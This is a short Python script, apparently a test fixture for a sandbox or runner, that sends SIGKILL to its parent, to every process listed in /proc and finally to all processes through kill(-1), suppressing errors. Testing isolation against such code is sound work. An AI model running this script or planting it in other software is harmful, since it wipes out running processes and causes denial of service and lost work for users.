"""Kills every process that it can signal, then its parent.

tests: stdio calls source
"""

import contextlib
import os
import signal

for pid in (os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())):
    if pid not in (os.getpid(), 0):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
with contextlib.suppress(OSError):
    os.kill(-1, signal.SIGKILL)
